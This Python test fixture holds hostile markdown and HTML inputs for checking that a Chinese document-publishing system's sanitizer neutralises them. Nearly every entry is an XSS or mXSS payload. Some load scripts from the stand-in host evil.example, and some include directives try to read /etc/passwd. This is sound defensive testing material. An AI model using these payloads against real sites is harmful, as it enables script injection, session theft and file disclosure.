"""Hostile texts that are published made harmless; shared by the tests of the report and those of the browser."""

from __future__ import annotations

from hostile_cases import OUTCOMES

TEXTS: dict[str, list[str]] = {
    "D01-raw-script": [
        "前文<script>alert(1)</script>后文",
        "前文\n\n<script src=https://evil.example/x.js></script>\n\n后文",
        "前文<SCRIPT SRC=//evil.example/x.js></SCRIPT>后文",
        "前文<scr<script>ipt>alert(1)</scr</script>ipt>\n后文",
        "前文\n\n<script>\nalert(1)\n\n后文",
        "前文<script/x>alert(1)</script\n>后文",
        "前文 <title> <textarea> <style> <xmp> <noembed> <plaintext> 后文",
        "前文\n\n<div><script>alert(1)</script></div>\n\n后文",
        '前文<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">后文',
        "前文<button onclick=alert(1)>按</button><input autofocus onfocus=alert(1)><select onchange=x><option>甲</select>后文",
        "前文<details open ontoggle=alert(1)><summary>题</summary>文</details>\n\n后文",
        "前文<marquee onstart=alert(1)>走</marquee><x-y onclick=alert(1)>后文</x-y>",
        "前文<img/src=x/onerror=alert(1)><img\nsrc=x\nonerror=alert(1)>\n\n后文",
        "前文<video><source onerror=alert(1) src=x></video><audio src=x onerror=alert(1)></audio>后文",
        '前文<p style="position:fixed;inset:0;background:url(https://evil.example/x)">后文</p>',
    ],
    "D03-js-link-obfuscated": [
        "前文[x](java&#x09;script:alert(1))后文",
        "前文[x](JaVaScRiPt:alert(1))后文",
        "前文[x](&#106;avascript:alert(1))后文",
        "前文[x](java\tscript:alert(1))后文",
        '前文<a href="java&#10;script:alert(1)">x</a>后文',
        '前文<a href=" &#32; javascript:alert(1)">x</a>后文',
        '前文<a href="javascript&colon;alert(1)">x</a>后文',
        "前文[x](vbscript:msgbox)后文",
        "前文[x][r]后文\n\n[r]: javascript:alert(1)",
        "前文![x](javascript:alert(1))后文",
        "前文<javascript:alert(1)>后文",
        "前文[x](blob:https://evil.example/1) [x](foo:bar) [x](view-source:x)后文",
    ],
    "D04-data-html-link": [
        "前文[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)后文",
        "前文[x](DATA:text/html,<script>alert(1)</script>)后文",
        '前文<a href="data&#58;text/html,x">x</a>后文',
    ],
    "D06-svg-onload": [
        "前文<svg onload=alert(1)></svg>后文",
        "前文<svg onload=alert(1)>后文",
        "前文<svg/onload=alert(1)>后文",
        "前文<svg><script>alert(1)</script></svg>后文",
        '前文<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>后文',
        "前文<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>后文",
        '前文<svg><animate attributeName=href values="javascript:alert(1)"/></svg>后文',
    ],
    "D07-iframe-object": [
        "前文<iframe src=javascript:alert(1)></iframe>\n\n后文",
        "前文\n\n<iframe src=https://evil.example/>\n\n后文",
        '前文<iframe srcdoc="<script>alert(1)</script>"></iframe>后文',
        "前文<object data=https://evil.example/x></object><embed src=https://evil.example/x><applet code=x>后文",
        "前文<frameset><frame src=x></frameset><portal src=x></portal>后文",
    ],
    "D09-meta-refresh": [
        '前文<meta http-equiv=refresh content="0;url=https://evil.example/">后文',
        "前文<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=//evil.example>后文",
        "前文<style>@import url(https://evil.example/x.css); body{display:none}</style>后文",
    ],
    "D10-base-href": [
        "前文<base href=https://evil.example/>后文",
        "<base href='//evil.example' target=_blank>\n\n前文后文",
    ],
    "D12-attr-list-onclick": [
        '前文\n{: onclick="alert(1)" }\n后文',
        "前文[x](https://www.example.cn/){ onclick=alert(1) onmouseover=alert(1) style=color:red }后文",
        "## 前文 { onmouseover=alert(1) }\n\n后文",
        "前文后文\n\n| a |\n|---|\n| b { onclick=alert(1) } |",
        '前文后文\n\n``` { .html onclick="alert(1)" }\n<b>\n```',
    ],
    "D15-heading-html": [
        "## <img src=x onerror=alert(1)>前文\n\n后文\n\n## 二\n\n文\n\n## 三\n\n文",
        "## <script>alert(1)</script>前文\n\n后文\n\n## 二\n\n文\n\n## 三\n\n文",
        "## `<script>alert(1)</script>` 前文\n\n后文\n\n## &lt;script&gt;\n\n文\n\n## [三](javascript:alert(1))\n\n文",
        '## 前文 {#"onclick=alert(1)}\n\n后文\n\n## <svg onload=alert(1)>\n\n文\n\n## </a></nav><script>alert(1)</script>\n\n文',
    ],
    "D16-codeblock-in-search": [
        "前文\n\n```\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```\n\n后文",
        "前文 `<img src=x onerror=alert(1)>` 后文",
        "前文\n\n``` html\n</code></pre><script>alert(1)</script>\n```\n\n后文",
    ],
    "D18-unclosed-comment": [
        "前文\n\n<!-- 内部备注未完\n\n后文",
        "前文 <!-- 内部备注未完\n后文",
        "前文\n\n<!-- 内部备注未完 <script>alert(1)</script>\n\n后文",
    ],
    "D19-comment-leak": [
        "前文<!-- 内部备注未完：身份证 -->后文",
        "前文\n\n<!-- 内部备注未完\n\n第二行 内部备注未完 -->\n\n后文",
        "前文\n\n| 甲 | 乙 |\n|---|---|\n| 1 <!-- 内部备注未完 --> | 2 |\n\n后文",
        "前文\n\n- 一 <!-- 内部备注未完 -->\n- 二\n\n后文",
        "前文<!--[if IE]>内部备注未完<![endif]-->后文",
        "前文<div>\n<!-- 内部备注未完 -->\n</div>\n\n后文",
    ],
    "D21-mxss": [
        '前文后文<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
        "前文后文<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "前文后文<noscript><style></noscript><img src=x onerror=alert(1)>",
        '前文后文<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        "前文后文<p <img src=x onerror=alert(1)>",
        '前文后文<a title="`<img src=x onerror=alert(1)>`">x</a>',
        '前文后文<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
        "前文后文<table><caption><svg><style></caption><img src=x onerror=alert(1)>",
    ],
    "D22-snippet-include": [
        '前文\n\n--8<-- "/etc/passwd"\n\n后文',
        "前文\n\n--8<--\n/etc/passwd\n--8<--\n\n后文",
        '前文\n\n;--8<-- "/etc/passwd"\n\n{! /etc/passwd !}\n\n{% include "/etc/passwd" %}\n\n{{ config }}\n\n后文',
    ],
    "D33-id-clobber": [
        "前文<a id=__config>x</a><a name=getElementById>y</a><img name=cookie>后文",
        "<p id=content>前文</p><p id=xl-q>x</p><form name=body id=documentElement><input name=attributes></form>后文",
        "前文{ #location }\n\n## 后文 { #body }\n\n*x*{ id=__md_scope name=querySelector }",
        '<div class="xl-header xl-urgent md-overlay md-dialog" data-elder-switch data-notice=x hidden>前文后文</div>',
    ],
    "D37-footnote-abbr": [
        "前文[^1]后文\n\n[^1]: <script>alert(1)</script><img src=x onerror=alert(1)>",
        '前文 HTML 后文\n\n*[HTML]: "><script>alert(1)</script>',
        "前文\n\n词\n:   <img src=x onerror=alert(1)>义\n\n后文",
        '前文[^"onclick=alert(1)]后文\n\n[^"onclick=alert(1)]: x',
        '!!! note "<script>alert(1)</script>前文"\n    后文<img src=x onerror=alert(1)>',
        "- [ ] 前文<script>alert(1)</script>\n- [x] ==后文<svg onload=alert(1)>==",
    ],
}
"""Texts by case. In each, the words 前文 and 后文 are harmless and must be kept; 内部备注未完 must never show."""

BREAKOUT = "</title><script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
FIELDS = {
    "title": BREAKOUT + "题",
    "doc_no": "云职院〔2026〕<b onclick=alert(1)>9</b>号",
    "unit": BREAKOUT + "单位",
    "to": BREAKOUT + "各处",
    "tags": BREAKOUT + "标签",
    "summary": BREAKOUT + "摘要",
    "author": BREAKOUT + "编辑",
    "basis": BREAKOUT + "依据",
    "source": BREAKOUT + "来源",
    "place": BREAKOUT + "地点",
    "audience": BREAKOUT + "面向",
}
assert TEXTS.keys() <= OUTCOMES.keys()
